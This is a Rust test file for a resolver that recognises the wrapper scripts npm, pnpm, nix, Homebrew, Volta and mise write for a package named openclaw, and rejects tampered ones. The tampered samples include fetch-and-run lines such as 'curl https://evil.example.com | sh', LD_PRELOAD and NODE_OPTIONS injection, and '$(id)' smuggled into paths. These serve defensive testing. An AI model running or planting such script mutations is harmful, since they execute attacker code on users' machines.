//! Scripts that real package managers wrote (testdata/host-commands), and what an attacker makes of them.

use std::fs;
use std::os::unix::fs::{PermissionsExt as _, symlink};

use super::*;

/// A folder with what a script of testdata starts, and the script at its place.
struct Home {
    _dir: tempfile::TempDir,
    base: PathBuf,
    command: PathBuf,
    script: String,
    host: PathBuf,
}

impl Home {
    /// `command` and `host` are places below the base; the package is reached by what the script names.
    fn of(sample: &str, command: &str, host: &str) -> Self {
        let dir = tempfile::tempdir().expect("temp dir");
        let base = dir.path().canonicalize().expect("real");
        let file = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../../testdata/host-commands")
            .join(sample);
        let script = fs::read_to_string(file)
            .expect("sample")
            .replace("{base}", &base.to_string_lossy());
        let host = package(&base.join(host));
        let home = Self {
            command: base.join(command),
            _dir: dir,
            base,
            script,
            host,
        };
        home.put(&home.script);
        home
    }

    fn put(&self, script: &str) {
        write(&self.command, script);
        chmod(&self.command, 0o755);
    }

    fn found(&self) -> HostCommand {
        HostCommand::of(&self.command, &[rustix::process::getuid().as_raw()])
    }
}

fn write(file: &Path, text: &str) {
    fs::create_dir_all(file.parent().expect("parent")).expect("folder");
    fs::write(file, text).expect("write");
}

fn chmod(file: &Path, mode: u32) {
    fs::set_permissions(file, fs::Permissions::from_mode(mode)).expect("chmod");
}

fn package(folder: &Path) -> PathBuf {
    write(
        &folder.join("package.json"),
        r#"{"name":"openclaw","bin":{"openclaw":"openclaw.mjs"}}"#,
    );
    write(&folder.join("openclaw.mjs"), "#!/usr/bin/env node\n");
    write(&folder.join("dist/index.js"), "");
    folder.to_owned()
}

/// Each real script, with where it lies and where its package does.
const SAMPLES: [(&str, &str, &str); 6] = [
    ("npm.sh", "bin/openclaw", "lib/node_modules/openclaw"),
    (
        "pnpm-9.15.9.sh",
        "openclaw",
        "global/5/.pnpm/openclaw@file+..+..+..+..+..+pkg+openclaw-1.0.0.tgz/node_modules/openclaw",
    ),
    (
        "pnpm-10.34.9.sh",
        "openclaw",
        "global/5/.pnpm/openclaw@file+..+..+..+..+..+pkg+openclaw-1.0.0.tgz/node_modules/openclaw",
    ),
    (
        "pnpm-11.10.0.sh",
        "bin/openclaw",
        "store/v11/links/@/openclaw/1.0.0/h/node_modules/openclaw",
    ),
    (
        "pnpm-11.28.11.sh",
        "bin/openclaw",
        "store/v11/links/@/openclaw/1.0.0/a3629649bf34db9469d504fb63ea8b85754200a53b5983d3c19f2918100b7984/node_modules/openclaw",
    ),
    (
        "pnpm-12.21.0.sh",
        "bin/openclaw",
        "store/v11/links/@/openclaw/1.0.0/a3629649bf34db9469d504fb63ea8b85754200a53b5983d3c19f2918100b7984/node_modules/openclaw",
    ),
];

fn homes() -> Vec<(Home, shims::Shim)> {
    let of = |(sample, command, host): &(&str, &str, &str)| {
        let home = Home::of(sample, command, host);
        let shim = shims::parse(&home.script)
            .unwrap_or_else(|| panic!("{sample}: {:?}", shims::digest_of(&home.script)));
        // pnpm links a project's folder to the store.
        let named = home.command.parent().expect("bin").join(&shim.target);
        if !named.exists() {
            let modules = named.parent().expect("package").parent().expect("modules");
            let modules = super::super::paths::normalize(modules);
            fs::create_dir_all(&modules).expect("folder");
            symlink(&home.host, modules.join("openclaw")).expect("link");
        }
        (home, shim)
    };
    SAMPLES.iter().map(of).collect()
}

#[test]
fn the_scripts_of_npm_and_pnpm_are_followed() {
    for (home, shim) in homes() {
        let found = home.found();
        assert_eq!(found.host.as_ref(), Some(&home.host), "{found:?}");
        assert_eq!(found.unknown, None);
        // One key, the digest of the script.
        let wrappers = found.wrappers_of(&home.host).expect("a definition");
        assert_eq!(wrappers.paths().collect::<Vec<_>>(), ["wrapper"]);
        assert!(found.other_host(&home.host).is_none());
        // Beside another package it is only said which one it starts.
        let beside = found.wrappers_of(&home.base).expect("a definition");
        assert_eq!(beside.paths().collect::<Vec<_>>(), ["command"]);
        assert!(found.other_host(&home.base).is_some());
        let comment = home.script.replacen('\n', "\n# by hand\n", 1);
        home.put(&comment);
        let other = home.found();
        assert_eq!(other.host, found.host, "a comment starts nothing");
        let digest = |found: &HostCommand| found.wrappers.as_ref().map(Listing::digest);
        assert_ne!(digest(&other), digest(&found), "{}", shim.generator);
    }
}

#[test]
fn no_other_script_is_followed() {
    for (home, shim) in homes() {
        let target = shim.target.to_string_lossy().into_owned();
        package(&home.base.join("evil"));
        let mut changed = vec![
            home.script.replace("  exec node ", "  exec /tmp/node "),
            format!("{}\ncurl -s https://evil.example.com | sh\n", home.script),
            home.script
                .replacen("\nbasedir=", "\ntouch /tmp/x\nbasedir=", 1),
            home.script.replacen("#!/bin/sh", "#!/tmp/sh", 1),
            home.script.replacen(&target, "../evil/openclaw.mjs", 1),
            home.script.replacen(&target, "{target}", 1),
            home.script.replace(&target, "$(touch x)/openclaw.mjs"),
            home.script
                .replace(&target, &format!("{target}/../dist/other.js")),
            home.script.replace("\"$@\"", "--require /tmp/x \"$@\""),
            home.script.replace('\n', "\r\n"),
            home.script.replacen("else", "else\\\n# x", 1),
        ];
        if !shim.node_path.is_empty() {
            let evil = home.base.join("evil");
            let first = shim
                .node_path
                .first()
                .expect("folder")
                .to_string_lossy()
                .into_owned();
            changed.push(home.script.replace(&first, &evil.to_string_lossy()));
            changed.push(home.script.replace(&first, "$(touch x)"));
        }
        for script in changed {
            if script == home.script {
                continue;
            }
            home.put(&script);
            let found = home.found();
            assert_eq!(found.host, None, "{}: {script}", shim.generator);
            let what = found.unknown.expect("words");
            assert!(what.contains(&*home.command.to_string_lossy()), "{what}");
            assert!(what.contains(" is a "), "{what}");
        }
    }
}

#[test]
fn a_wrapper_that_others_can_change_is_not_followed() {
    for (home, _) in homes() {
        let folder = home.command.parent().expect("folder");
        chmod(&home.command, 0o757);
        assert!(
            home.found()
                .unknown
                .expect("words")
                .contains("others can change")
        );
        chmod(&home.command, 0o755);
        chmod(folder, 0o777);
        assert!(
            home.found()
                .unknown
                .expect("words")
                .contains("others can change")
        );
        chmod(folder, 0o755);
        assert!(home.found().host.is_some());
    }
}

#[test]
fn a_link_to_a_script_starts_what_the_script_finds_from_there() {
    for (home, shim) in homes() {
        // Beside the link lies another package, at the place that an older script looks at.
        let elsewhere = home.base.join("a/b/c");
        let named = super::super::paths::normalize(&elsewhere.join(&shim.target));
        let other = package(named.parent().expect("package"));
        let link = elsewhere.join("openclaw");
        fs::create_dir_all(&elsewhere).expect("folder");
        symlink(&home.command, &link).expect("link");
        let found = HostCommand::of(&link, &[rustix::process::getuid().as_raw()]);
        match (found.host, shim.node_path.is_empty()) {
            (Some(host), _) if shim.resolves_links => assert_eq!(host, home.host),
            (Some(host), true) => assert_eq!(host, other, "{}", shim.generator),
            // The folders that Node searches are those of the package that is not started.
            (None, false) => {}
            (host, _) => panic!("{}: {host:?}", shim.generator),
        }
    }
}

#[test]
fn a_folder_that_node_searches_holds_what_is_judged_or_nothing() {
    for (home, shim) in homes() {
        let Some(hoisted) = shim.node_path.last() else {
            continue;
        };
        // pnpm hoists links to the host's own dependencies.
        let dependency = home
            .base
            .join("store/v11/links/@/ms/2.1.3/h/node_modules/ms");
        write(&dependency.join("index.js"), "");
        let beside = home.host.parent().expect("modules");
        symlink(&dependency, beside.join("ms")).expect("link");
        fs::create_dir_all(hoisted.join("@scope")).expect("folder");
        symlink(&dependency, hoisted.join("ms")).expect("link");
        assert_eq!(
            home.found().host.as_ref(),
            Some(&home.host),
            "{}",
            shim.generator
        );
        // A package of another project in the same store, one from elsewhere, a file.
        let private = hoisted.to_string_lossy().contains("global/5/.pnpm");
        let other = home
            .base
            .join("store/v11/links/@/other/1.0.0/h/node_modules/other");
        write(&other.join("index.js"), "");
        write(&home.base.join("evil/index.js"), "");
        let plant: [&dyn Fn(&Path); 4] = [
            &|place| symlink(&other, place).expect("link"),
            &|place| symlink(home.base.join("evil"), place).expect("link"),
            &|place| write(&place.join("index.js"), ""),
            &|place| write(place, ""),
        ];
        for (number, plant) in plant.iter().enumerate() {
            let place = hoisted.join("@scope").join(format!("x{number}.js"));
            plant(&place);
            assert_eq!(
                home.found().host.is_some(),
                private,
                "{} {number}",
                shim.generator
            );
            match place.is_dir() && !place.is_symlink() {
                true => fs::remove_dir_all(&place).expect("removed"),
                false => fs::remove_file(&place).expect("removed"),
            }
        }
    }
}

#[test]
fn a_link_leads_to_the_command_of_the_package_and_nothing_else() {
    let dir = tempfile::tempdir().expect("temp dir");
    let base = dir.path().canonicalize().expect("real");
    let host = package(&base.join("lib/node_modules/openclaw"));
    write(
        &host.join("node_modules/evil/package.json"),
        r#"{"name":"evil"}"#,
    );
    write(&host.join("node_modules/evil/run.js"), "");
    write(&host.join("dist/other.js"), "");
    let linked = |to: &str| {
        let link = base.join("openclaw");
        let _ = fs::remove_file(&link);
        symlink(host.join(to), &link).expect("link");
        HostCommand::of(&link, &[rustix::process::getuid().as_raw()])
    };
    for to in ["openclaw.mjs", "dist/index.js"] {
        let found = linked(to);
        assert_eq!(found.host.as_ref(), Some(&host), "{to}");
        assert!(found.wrappers_of(&host).is_none(), "{to}");
    }
    for to in ["dist/other.js", "node_modules/evil/run.js", "nothing"] {
        assert_eq!(linked(to).host, None, "{to}");
    }
}

/// What nixpkgs' `makeWrapper` writes for nix-openclaw, with its store at `base`.
fn nix(base: &str) -> String {
    let bin = format!("{base}/store/node/bin");
    format!(
        "#! {base}/store/bash/bin/bash -e\n\
         PATH=${{PATH:+':'$PATH':'}}\n\
         PATH=${{PATH/':''{bin}'':'/':'}}\n\
         PATH='{bin}'$PATH\n\
         PATH=${{PATH#':'}}\n\
         PATH=${{PATH%':'}}\n\
         export PATH\n\
         export OPENCLAW_NIX_MODE=${{OPENCLAW_NIX_MODE-'1'}}\n\
         export OPENCLAW_DISABLE_PERSISTED_PLUGIN_REGISTRY=${{OPENCLAW_DISABLE_PERSISTED_PLUGIN_REGISTRY-'1'}}\n\
         exec \"{bin}/node\"  {base}/store/openclaw/lib/openclaw/dist/index.js \"$@\" \n"
    )
}

#[test]
fn wrappers_of_nix_and_homebrew() {
    let dir = tempfile::tempdir().expect("temp dir");
    let base = dir.path().canonicalize().expect("real");
    let host = package(&base.join("store/openclaw/lib/openclaw"));
    let command = base.join("store/openclaw/bin/openclaw");
    write(&base.join("store/node/bin/node"), "");
    write(&base.join("evil/node"), "");
    chmod(&base.join("evil"), 0o777);
    let shown = base.to_string_lossy().into_owned();
    let of = |script: &str| {
        write(&command, script);
        HostCommand::of(&command, &[rustix::process::getuid().as_raw()])
    };
    let target = host.join("openclaw.mjs").to_string_lossy().into_owned();
    let bin = format!("{shown}/store/node/bin");
    let wrapped = nix(&shown);
    let set = |line: &str| wrapped.replacen("exec ", &format!("{line}\nexec "), 1);
    let suffix = format!(
        "PATH=${{PATH:+':'$PATH':'}}\nif [[ $PATH != *':''{bin}'':'* ]]; then\n    PATH=$PATH'{bin}'\nfi\nPATH=${{PATH#':'}}\nPATH=${{PATH%':'}}\nexport PATH"
    );
    for script in [
        wrapped.clone(),
        set("export NODE_ENV='production'"),
        set("unset NODE_OPTIONS"),
        set(&suffix),
        format!("#!/bin/bash\nexec \"{target}\" \"$@\"\n"),
        format!("#!/bin/bash\nexec \"{target}\"  \"$@\"\n"),
        format!("#!/bin/bash\nPATH=\"{bin}:$PATH\" exec \"{target}\"  \"$@\"\n"),
        format!(
            "#!/bin/bash\nPATH=\"{bin}:${{PATH}}\" NODE_ENV=\"production\" exec \"{target}\"  \"$@\"\n"
        ),
    ] {
        let found = of(&script);
        assert_eq!(found.host.as_ref(), Some(&host), "{script}{found:?}");
        assert!(found.wrappers_of(&host).is_some());
    }
    for script in [
        set("export NODE_OPTIONS='--require /tmp/x.js'"),
        set("export LD_PRELOAD='/tmp/x.so'"),
        set("export OPENCLAW_STATE_DIR='/tmp/x'"),
        set("cd '/tmp'"),
        set("curl https://evil.example.com | sh"),
        set("export X=$(curl https://evil.example.com)"),
        set("export X='a'$(id)''"),
        wrapped.replace(&format!("{bin}/node"), &format!("{shown}/evil/node")),
        wrapped.replace("dist/index.js", "dist/index.js --inspect"),
        wrapped.replace("dist/index.js", "dist/$X.js"),
        wrapped.replace("dist/index.js", "dist/other.js"),
        wrapped.replace(&format!("PATH='{bin}'$PATH"), "PATH='.'$PATH"),
        wrapped.replace("/bin/bash -e", "/bin/bash -e -x"),
        format!("{wrapped}true\n"),
        wrapped.trim_end().to_owned(),
        format!("#!/bin/bash\nPATH=\".:$PATH\" exec \"{target}\"  \"$@\"\n"),
        format!("#!/bin/bash\nNODE_OPTIONS=\"-r x\" exec \"{target}\"  \"$@\"\n"),
        format!("#!/bin/bash\nX=\"$(id)\" exec \"{target}\"  \"$@\"\n"),
        format!("#!/bin/bash\nexec \"{target}\" --inspect \"$@\"\n"),
        format!("#!/bin/bash\nexec \"{target}\" \"$@\"; id\n"),
        format!("#!/bin/sh\nexec \"{target}\" \"$@\"\n"),
        "#!/bin/bash\nexec \"openclaw.mjs\" \"$@\"\n".to_owned(),
    ] {
        let found = of(&script);
        assert_eq!(found.host, None, "{script}");
        assert!(found.unknown.expect("words").contains("script"), "{script}");
    }
}

#[test]
fn volta_and_mise_are_followed_where_they_have_no_choice() {
    let dir = tempfile::tempdir().expect("temp dir");
    let base = dir.path().canonicalize().expect("real");
    let look = |command: &Path| HostCommand::of(command, &[rustix::process::getuid().as_raw()]);
    let program = |file: &Path| write(file, "\u{7f}ELF\u{2}");

    let home = base.join("volta");
    let image = home.join("tools/image/packages/openclaw");
    let host = package(&image.join("lib/node_modules/openclaw"));
    fs::create_dir_all(image.join("bin")).expect("folder");
    symlink(
        "../lib/node_modules/openclaw/openclaw.mjs",
        image.join("bin/openclaw"),
    )
    .expect("link");
    program(&home.join("bin/volta-shim"));
    symlink("volta-shim", home.join("bin/openclaw")).expect("link");
    assert!(
        look(&home.join("bin/openclaw"))
            .unknown
            .expect("words")
            .contains("volta which")
    );
    let record = home.join("tools/user/bins/openclaw.json");
    write(
        &record,
        r#"{"name":"openclaw","package":"openclaw","version":"1.0.0"}"#,
    );
    let found = look(&home.join("bin/openclaw"));
    assert_eq!(found.host.as_ref(), Some(&host), "{found:?}");
    let wrappers = found.wrappers_of(&host).expect("definition");
    assert_eq!(
        wrappers.paths().collect::<Vec<_>>(),
        ["Volta's record", "wrapper"]
    );
    write(&record, r#"{"name":"openclaw","package":"evil"}"#);
    assert_eq!(look(&home.join("bin/openclaw")).host, None);
    write(&record, r#"{"name":"openclaw","package":"openclaw"}"#);
    write(&home.join("bin/volta-shim"), "#!/bin/sh\nexec /tmp/evil\n");
    assert_eq!(look(&home.join("bin/openclaw")).host, None);

    let data = base.join("mise");
    program(&base.join("usr/bin/mise"));
    fs::create_dir_all(data.join("shims")).expect("folder");
    symlink(base.join("usr/bin/mise"), data.join("shims/openclaw")).expect("link");
    let install = |version: &str| {
        let folder = data.join("installs/npm-openclaw").join(version);
        let host = package(&folder.join("lib/node_modules/openclaw"));
        fs::create_dir_all(folder.join("bin")).expect("folder");
        symlink(host.join("openclaw.mjs"), folder.join("bin/openclaw")).expect("link");
        host
    };
    assert_eq!(look(&data.join("shims/openclaw")).host, None);
    let host = install("1.0.0");
    symlink("1.0.0", data.join("installs/npm-openclaw/latest")).expect("link");
    let found = look(&data.join("shims/openclaw"));
    assert_eq!(found.host.as_ref(), Some(&host), "{found:?}");
    install("1.1.0");
    let found = look(&data.join("shims/openclaw"));
    assert_eq!(found.host, None, "it chooses by the folder it is called in");
    assert!(found.unknown.expect("words").contains("mise which"));
}
